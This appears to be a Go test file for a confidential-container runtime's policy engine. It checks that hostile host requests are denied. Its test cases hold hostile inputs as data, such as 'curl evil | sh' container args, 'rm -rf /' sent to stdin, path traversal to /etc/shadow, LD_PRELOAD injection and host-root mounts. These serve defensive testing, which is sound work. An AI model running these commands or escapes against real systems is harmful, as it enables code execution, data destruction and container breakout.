package policies_test

import (
	"context"
	"fmt"
	"maps"
	"strings"
	"testing"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"google.golang.org/protobuf/proto"

	"github.com/veil-runtime/veil/agent/api"
	"github.com/veil-runtime/veil/policy"
	"github.com/veil-runtime/veil/policy/genpolicy"
	"github.com/veil-runtime/veil/policy/policies"
	"github.com/veil-runtime/veil/policy/policytest"
)

const (
	webDigest   = "sha256:1111111111111111111111111111111111111111111111111111111111111111"
	otherDigest = "sha256:2222222222222222222222222222222222222222222222222222222222222222"
)

var webEnv = []string{
	"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
	"APP_MODE=production",
	"LISTEN=:8080",
}

// runtimeEnv is what the runtime adds to every container.
var runtimeEnv = []string{"HOSTNAME=web-7d9f", "KUBERNETES_SERVICE_HOST=10.96.0.1", "KUBERNETES_SERVICE_PORT=443"}

// testData is what genpolicy would write for a one-container pod with an exec probe.
func testData() policies.Data {
	s := genpolicy.DefaultSettings()
	uid := int64(1000)
	mounts := maps.Clone(s.Mounts)
	mounts[s.ServiceAccountPath] = policies.Mount{Type: "bind", Volume: true, Options: []string{"ro"}}
	mounts["/dev/termination-log"] = policies.Mount{Type: "bind", Volume: true}
	mounts["/data"] = policies.Mount{Type: "bind", Volume: true}
	return policies.Data{
		Containers: []policies.Container{{
			Name: "web", Image: "registry.example/web:1", ImageDigest: webDigest,
			Args: []string{"/app/web", "--port", "8080"}, Cwd: "/app",
			Env: webEnv, EnvPatterns: append(append([]string{}, s.EnvPatterns...), s.ServiceLinkEnvPatterns...),
			Mounts: mounts,
			Security: policies.Security{
				Capabilities: s.Capabilities, UID: &uid, GID: &uid, AdditionalGids: []int64{uid}, NonRoot: true,
				MaskedPaths: s.MaskedPaths, ReadonlyPaths: s.ReadonlyPaths,
				SharedNamespaces: []string{"ipc", "uts"},
			},
			Exec: [][]string{{"/app/healthcheck", "--quick"}},
		}},
		Sandbox: s.Sandbox, Network: policies.Network{InterfaceNames: s.Network.InterfaceNames, ForwardPorts: []int{8080}},
		CopyFile: s.CopyFile,
	}
}

func webContainer() policytest.Container {
	return policytest.Container{
		Name: "web", ImageDigest: webDigest, Args: []string{"/app/web", "--port", "8080"}, Cwd: "/app",
		Env: append(append([]string{}, webEnv...), runtimeEnv...), UID: 1000, GID: 1000, Volumes: []string{"/data"},
		SharedNamespaces: []string{"ipc", "uts"},
	}
}

func baselineEngine(t testing.TB, data policies.Data) *policy.Engine {
	t.Helper()
	text, err := policies.Render(data)
	if err != nil {
		t.Fatal(err)
	}
	e, err := policy.New(text)
	if err != nil {
		t.Fatalf("baseline does not compile: %v", err)
	}
	return e
}

// created returns an engine in which container "c1" was created from the web entry.
func created(t *testing.T) *policy.Engine {
	t.Helper()
	e := baselineEngine(t, testData())
	req := policytest.CreateContainer("c1", policytest.Spec(webContainer()))
	if d, err := e.Decide(context.Background(), "CreateContainer", req); !d.Allow {
		t.Fatalf("the allowed pod's CreateContainer was denied: %s (%v)", d.Reason, err)
	}
	return e
}

func mutated(f func(*specs.Spec)) proto.Message {
	s := policytest.Spec(webContainer())
	f(s)
	return policytest.CreateContainer("c2", s)
}

// execAs is the probe's exec in c1 as the runtime sends it, changed by f.
func execAs(f func(*api.Process)) proto.Message {
	r := policytest.Exec("c1", []string{"/app/healthcheck", "--quick"}, webEnv, 1000)
	f(r.Process)
	return r
}

// shimMutated is mutated applied after the shim's rewrite of the paths.
func shimMutated(f func(*specs.Spec)) proto.Message {
	s := policytest.Shim("c2", policytest.Spec(webContainer()))
	f(s)
	return policytest.Request("c2", s)
}

func TestBaseline(t *testing.T) {
	allCaps := append([]string{"CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_NET_ADMIN"}, policytest.DefaultCaps...)
	for _, tc := range []struct {
		name       string
		method     string
		req        proto.Message
		wantReason string // "" : allowed
	}{
		{"exec of a probe command", "ExecProcess", policytest.Exec("c1", []string{"/app/healthcheck", "--quick"}, webEnv, 1000), ""},
		{"exec as group 0", "ExecProcess", execAs(func(p *api.Process) { p.Gid = 0 }), "gid 0 is not the container's 1000"},
		{"exec with extra groups", "ExecProcess", execAs(func(p *api.Process) { p.AdditionalGids = []uint32{1000, 0, 10} }),
			"supplementary group 0 is not the container's; supplementary group 10 is not the container's"},
		{"exec with more capabilities", "ExecProcess", execAs(func(p *api.Process) { p.Capabilities = []string{"CAP_SYS_ADMIN"} }),
			"capability CAP_SYS_ADMIN is not allowed"},
		{"exec of an unlisted command", "ExecProcess", &api.ExecProcessRequest{ContainerId: "c1", ExecId: "e1",
			Process: &api.Process{Args: []string{"sh"}, Env: webEnv, Uid: 1000}},
			`ExecProcessRequest denied by policy: exec of ["sh"] is not allowed in container web`},
		{"exec as root", "ExecProcess", &api.ExecProcessRequest{ContainerId: "c1", ExecId: "e1",
			Process: &api.Process{Args: []string{"/app/healthcheck", "--quick"}, Uid: 0}}, "uid 0 is not the policy's 1000"},
		{"exec with a changed variable", "ExecProcess", &api.ExecProcessRequest{ContainerId: "c1", ExecId: "e1",
			Process: &api.Process{Args: []string{"/app/healthcheck", "--quick"}, Env: []string{"LD_PRELOAD=/tmp/x.so"}, Uid: 1000}},
			"environment variable LD_PRELOAD is not allowed with this value"},
		{"exec in an unknown container", "ExecProcess", &api.ExecProcessRequest{ContainerId: "nope",
			Process: &api.Process{Args: []string{"/app/healthcheck", "--quick"}}}, `container "nope" was not created under this policy`},
		{"start known", "StartContainer", &api.StartContainerRequest{ContainerId: "c1"}, ""},
		{"start unknown", "StartContainer", &api.StartContainerRequest{ContainerId: "c9"}, "was not created under this policy"},
		{"changed env var", "CreateContainer", mutated(func(s *specs.Spec) { s.Process.Env[1] = "APP_MODE=debug" }),
			"CreateContainerRequest denied by policy: environment variable APP_MODE is not allowed with this value"},
		{"added env var", "CreateContainer", mutated(func(s *specs.Spec) { s.Process.Env = append(s.Process.Env, "LD_PRELOAD=/x.so") }),
			"environment variable LD_PRELOAD is not allowed"},
		{"different image digest", "CreateContainer", mutated(func(s *specs.Spec) { s.Annotations["io.veil.image.digest"] = otherDigest }),
			`image digest "` + otherDigest + `" is not the policy's "` + webDigest + `"`},
		{"no image digest", "CreateContainer", mutated(func(s *specs.Spec) { delete(s.Annotations, "io.veil.image.digest") }),
			`image digest "" is not the policy's`},
		{"privileged container", "CreateContainer", mutated(func(s *specs.Spec) {
			s.Process.Capabilities = &specs.LinuxCapabilities{Bounding: allCaps, Effective: allCaps, Permitted: allCaps}
			s.Linux.MaskedPaths, s.Linux.ReadonlyPaths = nil, nil
		}), "capability CAP_SYS_ADMIN is not allowed"},
		{"privileged: masked paths", "CreateContainer", mutated(func(s *specs.Spec) { s.Linux.MaskedPaths = nil }),
			"masked path /proc/kcore is missing"},
		{"host pid namespace", "CreateContainer", mutated(func(s *specs.Spec) { s.Linux.Namespaces = s.Linux.Namespaces[1:] }),
			"namespace pid is missing: the container would share the guest's"},
		{"joined namespace", "CreateContainer", mutated(func(s *specs.Spec) { s.Linux.Namespaces[0].Path = "/proc/1/ns/pid" }),
			"namespace pid joins an existing one (/proc/1/ns/pid)"},
		{"hooks", "CreateContainer", mutated(func(s *specs.Spec) {
			s.Hooks = &specs.Hooks{CreateRuntime: []specs.Hook{{Path: "/bin/sh"}}}
		}), "hooks are not allowed"},
		{"changed args", "CreateContainer", mutated(func(s *specs.Spec) { s.Process.Args = []string{"/bin/sh", "-c", "curl evil | sh"} }),
			"process args"},
		{"root user", "CreateContainer", mutated(func(s *specs.Spec) { s.Process.User.UID = 0 }),
			"the container runs as root and the pod requires a non-root user"},
		{"host root mounted", "CreateContainer", mutated(func(s *specs.Spec) {
			s.Mounts = append(s.Mounts, specs.Mount{Destination: "/host", Type: "bind", Source: "/", Options: []string{"rbind"}})
		}), `mount at "/host" is not allowed`},
		{"volume source escaping", "CreateContainer", shimMutated(func(s *specs.Spec) {
			s.Mounts[len(s.Mounts)-1].Source = api.SharedVolume("c2", 0) + "/../../../etc"
		}), `mount at "/data" is not allowed`},
		{"another container's volume", "CreateContainer", shimMutated(func(s *specs.Spec) {
			s.Mounts[len(s.Mounts)-1].Source = api.SharedVolume("c1", 5)
		}), `mount at "/data" is not allowed`},
		{"volume from a guest-pulled root", "CreateContainer", shimMutated(func(s *specs.Spec) {
			s.Mounts[len(s.Mounts)-1].Source = api.ContainerRootfs("c1")
		}), `mount at "/data" is not allowed`},
		{"volume from the image cache", "CreateContainer", shimMutated(func(s *specs.Spec) {
			s.Mounts[len(s.Mounts)-1].Source = "/run/veil/images/images"
		}), `mount at "/data" is not allowed`},
		{"volume below a volume", "CreateContainer", shimMutated(func(s *specs.Spec) {
			s.Mounts[len(s.Mounts)-1].Source = api.SharedVolume("c2", 0) + "/x"
		}), `mount at "/data" is not allowed`},
		{"re-created id", "CreateContainer", policytest.CreateContainer("c1", policytest.Spec(webContainer())),
			`container id "c1" is already in use (created as web)`},
		{"extra group", "CreateContainer", mutated(func(s *specs.Spec) { s.Process.User.AdditionalGids = []uint32{1000, 0} }),
			"supplementary group 0 is not allowed"},
		{"rlimit", "CreateContainer", mutated(func(s *specs.Spec) {
			s.Process.Rlimits = []specs.POSIXRlimit{{Type: "RLIMIT_NOFILE", Hard: 1 << 20, Soft: 1 << 20}}
		}), "rlimit RLIMIT_NOFILE (soft 1048576, hard 1048576) is not allowed"},
		{"apparmor", "CreateContainer", mutated(func(s *specs.Spec) { s.Process.ApparmorProfile = "unconfined" }),
			`process.apparmorProfile "unconfined" is set`},
		{"selinux", "CreateContainer", mutated(func(s *specs.Spec) { s.Process.SelinuxLabel = "system_u:system_r:spc_t:s0" }),
			"process.selinuxLabel"},
		{"device cgroup allow", "CreateContainer", mutated(func(s *specs.Spec) {
			s.Linux.Resources.Devices = append(s.Linux.Resources.Devices, specs.LinuxDeviceCgroup{Allow: true, Type: "b", Access: "rwm"})
		}), "device cgroup rule allowing b *:* (rwm)"},
		{"seccomp notify", "CreateContainer", mutated(func(s *specs.Spec) {
			s.Linux.Seccomp = &specs.LinuxSeccomp{DefaultAction: specs.ActNotify, ListenerPath: "/run/veil/shared/x.sock"}
		}), "seccomp hands syscalls to a listener"},
		{"seccomp spec allow", "CreateContainer", mutated(func(s *specs.Spec) {
			s.Linux.Seccomp = &specs.LinuxSeccomp{DefaultAction: specs.ActErrno, Flags: []specs.LinuxSeccompFlag{"SECCOMP_FILTER_FLAG_SPEC_ALLOW"}}
		}), "seccomp flag SECCOMP_FILTER_FLAG_SPEC_ALLOW is not allowed"},
		{"a storage with a shared root", "CreateContainer", func() proto.Message {
			r := policytest.CreateContainer("c4", policytest.Spec(webContainer()))
			r.Storages = []*api.Storage{{Driver: api.DriverBind, Source: "/run/veil/shared/x", MountPoint: "/run/veil/storage/x"}}
			return r
		}(), `storage "bind" at "/run/veil/storage/x" is not allowed`},
		{"device", "CreateContainer", mutated(func(s *specs.Spec) {
			s.Linux.Devices = []specs.LinuxDevice{{Path: "/dev/sev-guest", Type: "c"}}
		}), "device /dev/sev-guest is not allowed"},
		{"sysctl", "CreateContainer", mutated(func(s *specs.Spec) { s.Linux.Sysctl = map[string]string{"kernel.core_pattern": "|/x"} }),
			"sysctl kernel.core_pattern is not allowed"},
		{"unknown container name", "CreateContainer", mutated(func(s *specs.Spec) { s.Annotations["io.kubernetes.cri.container-name"] = "miner" }),
			`no container named "miner" in the policy`},
		{"no container name, no match", "CreateContainer", mutated(func(s *specs.Spec) {
			delete(s.Annotations, "io.kubernetes.cri.container-name")
			s.Process.Args = []string{"/x"}
		}), `process args ["/x"] are not the policy's`},
		{"no spec", "CreateContainer", &api.CreateContainerRequest{ContainerId: "c3"}, "oci_spec is missing"},
		{"sandbox share", "CreateSandbox", &api.CreateSandboxRequest{SandboxId: "sb1",
			Storages: []*api.Storage{{Driver: api.DriverVirtioFS, Source: api.ShareTag, MountPoint: api.SharedDir}}}, ""},
		{"sandbox tmpfs", "CreateSandbox", &api.CreateSandboxRequest{SandboxId: "sb1",
			Storages: []*api.Storage{{Driver: api.DriverTmpfs, MountPoint: "/run/veil/storage/x"}}}, "the sandbox mounts only the pod's virtio-fs share"},
		{"sandbox share elsewhere", "CreateSandbox", &api.CreateSandboxRequest{SandboxId: "sb1",
			Storages: []*api.Storage{{Driver: api.DriverVirtioFS, Source: api.ShareTag, MountPoint: "/run/veil/images"}}}, "the sandbox mounts only"},
		{"SetGuestTime", "SetGuestTime", &api.SetGuestTimeRequest{UnixNano: 1}, "does not let the host set the guest's clock"},
		{"ListProcesses", "ListProcesses", &api.ListProcessesRequest{ContainerId: "c1"}, ""},
		{"SetPolicy", "SetPolicy", &api.SetPolicyRequest{Policy: "package agent_policy\n"},
			"SetPolicyRequest denied by policy: the confidential baseline does not allow replacing the policy"},
		{"CopyFile allowed", "CopyFile", &api.CopyFileRequest{Path: "/run/veil/shared/sb1/hosts", Data: []byte("x")}, ""},
		{"CopyFile with ..", "CopyFile", &api.CopyFileRequest{Path: "/run/veil/shared/../../../etc/shadow"},
			`CopyFileRequest denied by policy: path "/run/veil/shared/../../../etc/shadow" contains ".."`},
		{"CopyFile elsewhere", "CopyFile", &api.CopyFileRequest{Path: "/etc/passwd"}, `path "/etc/passwd" is outside the allowed paths`},
		{"stdin not declared", "WriteStdin", &api.WriteStreamRequest{ContainerId: "c1", Data: []byte("rm -rf /\n")}, "container web does not declare stdin"},
		{"read stdout", "ReadStdout", &api.ReadStreamRequest{ContainerId: "c1"}, ""},
		{"interface eth0", "UpdateInterface", &api.UpdateInterfaceRequest{Interface: &api.Interface{
			Name: "eth0", HwAddr: "02:00:00:00:00:01", Mtu: 1500, Addresses: []*api.IPAddress{{Cidr: "10.88.0.2/16"}}, Up: true}}, ""},
		{"interface lo", "UpdateInterface", &api.UpdateInterfaceRequest{Interface: &api.Interface{Name: "lo"}},
			`interface "lo" is not one the policy allows`},
		{"loopback address", "UpdateInterface", &api.UpdateInterfaceRequest{Interface: &api.Interface{
			Name: "eth0", Addresses: []*api.IPAddress{{Cidr: "127.0.0.2/8"}}}}, "address 127.0.0.2/8 is a loopback address"},
		{"routes", "UpdateRoutes", &api.UpdateRoutesRequest{Routes: &api.Routes{Routes: []*api.Route{
			{Dest: "", Gateway: "10.88.0.1", Device: "eth0"}, {Dest: "10.88.0.0/16", Device: "eth0"}}}}, ""},
		{"route via another device", "UpdateRoutes", &api.UpdateRoutesRequest{Routes: &api.Routes{Routes: []*api.Route{
			{Dest: "10.0.0.0/8", Device: "tun0"}}}}, `route to "10.0.0.0/8" via device "tun0" is not allowed`},
		{"ARP on eth0", "AddARPNeighbors", &api.AddARPNeighborsRequest{Neighbors: []*api.ARPNeighbor{{IpAddress: "10.88.0.1", Device: "eth0"}}}, ""},
		{"ARP on lo", "AddARPNeighbors", &api.AddARPNeighborsRequest{Neighbors: []*api.ARPNeighbor{{Device: "lo"}}}, "ARP neighbour on device \"lo\""},
		{"sandbox", "CreateSandbox", &api.CreateSandboxRequest{SandboxId: "sb1", Dns: []string{"nameserver 10.96.0.10", "search default.svc.cluster.local svc.cluster.local"}}, ""},
		{"sandbox dns injection", "CreateSandbox", &api.CreateSandboxRequest{Dns: []string{"nameserver 1.1.1.1\nnameserver 6.6.6.6"}}, "dns line"},
		{"check", "Check", &api.CheckRequest{}, ""},
		{"port forward to a declared port", "OpenPort", &api.OpenPortRequest{Port: 8080}, ""},
		{"port forward elsewhere", "OpenPort", &api.OpenPortRequest{Port: 22},
			"port 22 is not one the pod declares (network.forward_ports)"},
		{"port forward read", "ReadPort", &api.ReadPortRequest{ConnId: "port-1"}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := created(t)
			d, _ := e.Decide(context.Background(), tc.method, tc.req)
			if tc.wantReason == "" {
				if !d.Allow {
					t.Fatalf("denied: %s", d.Reason)
				}
				return
			}
			if d.Allow {
				t.Fatalf("allowed, want a denial with %q", tc.wantReason)
			}
			if msg := d.Err().Error(); !strings.Contains(msg, tc.wantReason) {
				t.Fatalf("denial %q lacks %q", msg, tc.wantReason)
			}
		})
	}
}

func TestBaselineState(t *testing.T) {
	ctx := context.Background()
	e := created(t)
	exec := policytest.Exec("c1", []string{"/app/healthcheck", "--quick"}, nil, 1000)
	if d, _ := e.Decide(ctx, "ExecProcess", exec); !d.Allow {
		t.Fatalf("exec after create: %s", d.Reason)
	}
	st := e.State()["containers"].(map[string]any)["c1"].(map[string]any)
	if st["entry"] != "web" || fmt.Sprintf("%v %v %v", st["uid"], st["gid"], st["additional_gids"]) != "1000 1000 []" {
		t.Fatalf("state for c1 = %v", st)
	}
	if d, _ := e.Decide(ctx, "RemoveContainer", &api.RemoveContainerRequest{ContainerId: "c1"}); !d.Allow {
		t.Fatalf("remove: %s", d.Reason)
	}
	if d, _ := e.Decide(ctx, "ExecProcess", exec); d.Allow {
		t.Fatal("exec allowed in a removed container")
	}
}

func TestBaselineWithholdOutput(t *testing.T) {
	data := testData()
	data.Sandbox.WithholdOutput = true
	e := baselineEngine(t, data)
	for m, req := range map[string]proto.Message{
		"ReadStdout":    &api.ReadStreamRequest{ContainerId: "c1"},
		"ReadStderr":    &api.ReadStreamRequest{ContainerId: "c1"},
		"ListProcesses": &api.ListProcessesRequest{ContainerId: "c1"},
	} {
		d, _ := e.Decide(context.Background(), m, req)
		if d.Allow || !d.Withhold {
			t.Fatalf("%s: allow %v withhold %v, want a withheld denial", m, d.Allow, d.Withhold)
		}
	}
}

func TestBaselineWithoutData(t *testing.T) {
	e := baselineEngine(t, policies.Data{})
	d, _ := e.Decide(context.Background(), "CreateContainer", policytest.CreateContainer("c1", policytest.Spec(webContainer())))
	if d.Allow || !strings.Contains(d.Reason, "the policy declares no containers") {
		t.Fatalf("decision %+v", d)
	}
	if _, err := policy.New(policies.BaselineRules); err == nil {
		t.Fatal("the baseline rules compiled without a data section")
	}
}

// TestAllowAllCoversEveryMethod proves that allow-all has a rule for every request type.
func TestAllowAllCoversEveryMethod(t *testing.T) {
	e, err := policy.New(policies.AllowAll)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range policy.Methods() {
		req, _ := policy.NewRequest(m.Name)
		if d, err := e.Decide(context.Background(), m.Name, req); !d.Allow {
			t.Errorf("%s: %s (%v)", m.Name, d.Reason, err)
		}
	}
}

// TestBaselineCoversEveryMethod proves that the baseline judges every request type itself
// (a rule per type), rather than relying on the engine's missing-rule denial.
func TestBaselineCoversEveryMethod(t *testing.T) {
	text, _ := policies.Render(testData())
	for _, m := range policy.Methods() {
		if !strings.Contains(text, "\n"+m.Rule+" :=") && !strings.Contains(text, "default "+m.Rule+" :=") {
			t.Errorf("the baseline has no rule %s", m.Rule)
		}
	}
}

// TestBaselineUnnamed judges specs without the CRI name annotation against every entry.
func TestBaselineUnnamed(t *testing.T) {
	data := testData()
	other := data.Containers[0]
	other.Name, other.Args = "worker", []string{"/app/worker"}
	data.Containers = append(data.Containers, other)
	e := baselineEngine(t, data)
	ctx := context.Background()
	for i, tc := range []struct {
		args       []string
		wantEntry  string
		wantReason string
	}{
		{[]string{"/app/worker"}, "worker", ""},
		{[]string{"/app/web", "--port", "8080"}, "web", ""},
		{[]string{"/bin/sh"}, "", "no container of the policy matches: web: process args"},
	} {
		s := policytest.Spec(webContainer())
		delete(s.Annotations, "io.kubernetes.cri.container-name")
		s.Process.Args = tc.args
		id := fmt.Sprintf("u%d", i)
		d, _ := e.Decide(ctx, "CreateContainer", policytest.CreateContainer(id, s))
		if tc.wantReason != "" {
			if d.Allow || !strings.Contains(d.Reason, tc.wantReason) || !strings.Contains(d.Reason, "| worker: ") {
				t.Fatalf("%q: %+v", tc.args, d)
			}
			continue
		}
		if !d.Allow {
			t.Fatalf("%q denied: %s", tc.args, d.Reason)
		}
		if got := e.State()["containers"].(map[string]any)[id].(map[string]any)["entry"]; got != tc.wantEntry {
			t.Fatalf("%q created from %v, want %s", tc.args, got, tc.wantEntry)
		}
	}
}

func TestRenderErrors(t *testing.T) {
	for _, tc := range []struct {
		name    string
		data    policies.Data
		wantErr string
	}{
		{"no name", policies.Data{Containers: []policies.Container{{}}}, "containers[0]: no name"},
		{"duplicate", policies.Data{Containers: []policies.Container{{Name: "a"}, {Name: "a"}}}, `containers[1]: name "a" used twice`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := policies.Render(tc.data); err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("err = %v, want %q", err, tc.wantErr)
			}
		})
	}
}

// An exec runs with the identity its container was created with: no_new_privileges when the
// container has it (the pod said allowPrivilegeEscalation: false), its uid and gid.
func TestExecIdentity(t *testing.T) {
	ctx := context.Background()
	data := testData()
	data.Containers[0].Security.NoNewPrivileges = true
	e := baselineEngine(t, data)
	c := webContainer()
	c.NoNewPrivileges = true
	if d, _ := e.Decide(ctx, "CreateContainer", policytest.CreateContainer("c1", policytest.Spec(c))); !d.Allow {
		t.Fatalf("create: %s", d.Reason)
	}
	honest := policytest.Exec("c1", []string{"/app/healthcheck", "--quick"}, webEnv, 1000)
	honest.Process.NoNewPrivileges = true
	if d, _ := e.Judge(ctx, "ExecProcess", honest); !d.Allow {
		t.Fatalf("the honest exec: %s", d.Reason)
	}
	honest.Process.NoNewPrivileges = false
	if d, _ := e.Judge(ctx, "ExecProcess", honest); d.Allow || !strings.Contains(d.Reason, "no_new_privileges must be set") {
		t.Fatalf("exec without no_new_privileges: %+v", d)
	}
}

// A refused re-create of a live id does not move the id to another entry: the other entry's
// execs stay refused in it (the engine commits only what the agent carried out; the baseline
// refuses the re-create itself too).
func TestRecreatedIDKeepsItsEntry(t *testing.T) {
	ctx := context.Background()
	data := testData()
	debug := data.Containers[0]
	debug.Name, debug.Args, debug.Exec = "debug", []string{"/bin/sleep", "1d"}, [][]string{{"sh", "-c", "cat /secret"}}
	data.Containers = append(data.Containers, debug)
	e := baselineEngine(t, data)
	if d, _ := e.Decide(ctx, "CreateContainer", policytest.CreateContainer("c1", policytest.Spec(webContainer()))); !d.Allow {
		t.Fatalf("create web: %s", d.Reason)
	}
	dc := webContainer()
	dc.Name, dc.Args = "debug", debug.Args
	if d, _ := e.Decide(ctx, "CreateContainer", policytest.CreateContainer("c1", policytest.Spec(dc))); d.Allow ||
		!strings.Contains(d.Reason, `container id "c1" is already in use (created as web)`) {
		t.Fatalf("re-create c1 as debug: %+v", d)
	}
	probe := policytest.Exec("c1", []string{"sh", "-c", "cat /secret"}, webEnv, 1000)
	if d, _ := e.Decide(ctx, "ExecProcess", probe); d.Allow || !strings.Contains(d.Reason, "is not allowed in container web") {
		t.Fatalf("debug's probe in c1: %+v", d)
	}
}
